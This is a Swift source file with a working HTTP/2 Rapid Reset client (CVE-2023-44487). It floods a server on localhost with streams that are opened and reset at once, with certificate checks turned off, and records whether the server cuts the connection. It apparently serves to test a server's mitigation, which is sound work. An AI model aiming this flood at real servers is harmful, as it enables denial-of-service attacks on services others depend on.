internal import NIOCore
internal import NIOPosix
internal import NIOSSL
internal import Primitives
internal import Synchronization

/// A client of HTTP/2 that opens streams only to reset them (CVE-2023-44487), as fast as it can.
struct RapidResets {
    /// What came of it.
    struct Outcome: Sendable {
        /// Streams that were opened and reset until the other side ended the connection.
        var streams = 0
        /// Whether it ended it.
        var isCut = false
        var seconds = 0.0
    }

    let port: Int
    /// Streams of one connection at most.
    let streams: Int
    private static let clock = SystemClock()
    private static let atOnce = 100
    private static let limit: UInt64 = 10_000_000_000
    private static let preface = Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8)
    /// GET of `/` over https from the authority `a` (RFC 7541, appendix A).
    private static let request: [UInt8] = [0x82, 0x87, 0x84, 0x01, 0x01, 0x61]

    func run() throws -> Outcome {
        let group = MultiThreadedEventLoopGroup(numberOfThreads: 1)
        defer { try? group.syncShutdownGracefully() }
        var settings = TLSConfiguration.makeClientConfiguration()
        settings.certificateVerification = .none
        settings.applicationProtocols = ["h2"]
        let context = try NIOSSLContext(configuration: settings)
        let channel = try ClientBootstrap(group: group)
            .channelInitializer { channel in
                channel.eventLoop.makeCompletedFuture {
                    try channel.pipeline.syncOperations.addHandler(
                        NIOSSLClientHandler(context: context, serverHostname: "localhost"))
                }
            }
            .connect(host: "127.0.0.1", port: port).wait()
        let isOver = ConditionLock(false)
        channel.closeFuture.whenComplete { _ in
            isOver.withLock { $0 = true }
            isOver.broadcast()
        }
        let begun = Self.clock.monotonicNanoseconds()
        var outcome = Outcome()
        var bytes = ByteBuffer(bytes: Self.preface)
        Self.frame(4, 0, stream: 0, [], to: &bytes)
        while outcome.streams < streams, !isOver.withLock({ $0 }),
            Self.clock.monotonicNanoseconds() < begun + Self.limit
        {
            for _ in 0..<Self.atOnce {
                let stream = UInt32(outcome.streams * 2 + 1)
                // Its head is whole and so is its body; then it is taken back (RFC 9113 §6.4).
                Self.frame(1, 0x05, stream: stream, Self.request, to: &bytes)
                Self.frame(3, 0, stream: stream, [0, 0, 0, 8], to: &bytes)
                outcome.streams += 1
            }
            if (try? channel.writeAndFlush(bytes).wait()) == nil { break }
            bytes.clear()
        }
        outcome.isCut = isOver.wait(until: { $0 }, atMost: 5_000_000_000)
        outcome.seconds = Double(Self.clock.monotonicNanoseconds() - begun) / 1e9
        if !outcome.isCut { try? channel.close().wait() }
        return outcome
    }

    private static func frame(
        _ kind: UInt8, _ flags: UInt8, stream: UInt32, _ payload: [UInt8],
        to bytes: inout ByteBuffer
    ) {
        bytes.writeInteger(UInt8(payload.count >> 16))
        bytes.writeInteger(UInt16(payload.count & 0xFFFF))
        bytes.writeInteger(kind)
        bytes.writeInteger(flags)
        bytes.writeInteger(stream)
        bytes.writeBytes(payload)
    }
}
